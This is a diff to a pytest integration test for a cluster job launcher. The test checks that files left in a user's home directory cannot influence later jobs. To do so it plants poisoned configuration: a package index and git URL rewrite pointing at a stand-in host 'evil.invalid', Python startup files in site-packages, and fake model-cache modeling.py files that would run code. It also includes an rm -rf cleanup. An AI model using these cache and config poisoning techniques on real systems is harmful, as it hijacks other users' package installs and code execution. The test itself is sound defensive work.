@@ -32,7 +32,7 @@ printf 'index-url = "http://evil.invalid/simple"\n' > .config/uv/uv.toml
 printf '[url "http://evil.invalid/"]\n  insteadOf = https://\n' | tee .config/git/config > .gitconfig
 for name in evil.pth usercustomize.py; do echo "$mark" > .local/lib/python3.11/site-packages/$name; done
 """
-UNSETTLE = "cd ~phalanx && rm -rf .local .pythonrc .openmpi .prte .pmix /tmp/acted"
+UNSETTLE = "cd ~phalanx && rm -rf .local .pythonrc .openmpi .prte .pmix .cache /tmp/acted"
 INTRUDE = "ssh -F none -i /tmp/intruder -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null"
 
 
@@ -132,19 +132,37 @@ for home in {account, os.environ["HOME"]}:
         path = pathlib.Path(home, name)
         path.parent.mkdir(parents=True, exist_ok=True)
         path.write_text(text)
+# Where libraries keep what they have downloaded: models have code (trust_remote_code) and pickles.
+for place in caches():
+    for top in (place, place.replace(os.environ["HOME"], account)):
+        os.makedirs(f"{top}/models--org--model/snapshots/1", exist_ok=True)
+        pathlib.Path(f"{top}/models--org--model/snapshots/1/modeling.py").write_text(act)
+"""
+# By the rules of huggingface_hub, transformers, torch, pip, uv and those of XDG.
+CACHES = r"""
+import os
+def caches():
+    named = os.environ.get
+    top = named("XDG_CACHE_HOME") or os.path.expanduser("~/.cache")
+    face = named("HF_HOME") or f"{top}/huggingface"
+    places = [named("HF_HUB_CACHE") or named("HUGGINGFACE_HUB_CACHE") or f"{face}/hub"]
+    places += [named("HF_MODULES_CACHE") or f"{face}/modules", named("TRANSFORMERS_CACHE") or f"{face}/hub"]
+    places += [named("HF_DATASETS_CACHE") or f"{face}/datasets", named("TORCH_HOME") or f"{top}/torch"]
+    return [*places, named("PIP_CACHE_DIR") or f"{top}/pip", named("UV_CACHE_DIR") or f"{top}/uv"]
 """
 LOOK = r"""
 import os, pwd
 home = os.environ["HOME"]
 print("acted", os.path.exists("/tmp/acted"), "found", os.listdir(home), "short", len(home) < 50)
 print("login", home == pwd.getpwuid(os.getuid()).pw_dir)
+print("login", [place for place in caches() if os.path.exists(place)] != [])
 """
 
 
 @pytest.mark.parametrize("launcher", ["exec", "mpi", "torchrun"])
 def test_nothing_that_a_job_leaves_at_home_steers_a_later_one(cluster, tmp_path, launcher):
-    (tmp_path / "settle.py").write_text(SETTLE)
-    (tmp_path / "look.py").write_text(LOOK)
+    (tmp_path / "settle.py").write_text(CACHES + SETTLE)
+    (tmp_path / "look.py").write_text(CACHES + LOOK)
     here = ("run", "--directory", str(tmp_path))
     cluster.phalanx(*here, "--launcher", "exec", "-N", "1", "--", "python3", "settle.py")
     try:
@@ -153,6 +171,6 @@ def test_nothing_that_a_job_leaves_at_home_steers_a_later_one(cluster, tmp_path,
     finally:
         cluster.phalanx(*here, "--launcher", "exec", "-N", "1", "--", "sh", "-c", UNSETTLE)
     lines = [line for line in done.stdout.splitlines() if "acted" in line or "login" in line]
-    assert len(lines) == 4, done.stdout
+    assert len(lines) == 6, done.stdout
     assert all("acted False found [] short True" in line or "login False" in line for line in lines), lines
     assert "mpi_show_mca_params" not in done.stdout + done.stderr
